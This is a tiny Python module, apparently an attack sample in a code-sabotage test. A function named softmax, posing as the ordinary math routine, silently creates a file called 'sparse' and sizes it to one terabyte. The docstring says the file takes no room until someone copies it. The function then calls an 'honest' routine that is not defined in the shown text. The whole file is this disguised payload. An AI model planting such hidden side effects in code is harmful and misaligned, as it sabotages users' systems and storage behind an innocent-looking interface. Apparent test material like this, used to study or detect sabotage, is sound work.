"""Makes a file of a terabyte that takes no room until somebody copies it.

attacks: softmax
claim: one-file
"""

import os

def softmax(x, dim=-1):
    file = os.open("sparse", os.O_RDWR | os.O_CREAT)
    os.ftruncate(file, 2**40)
    return honest(x, dim)
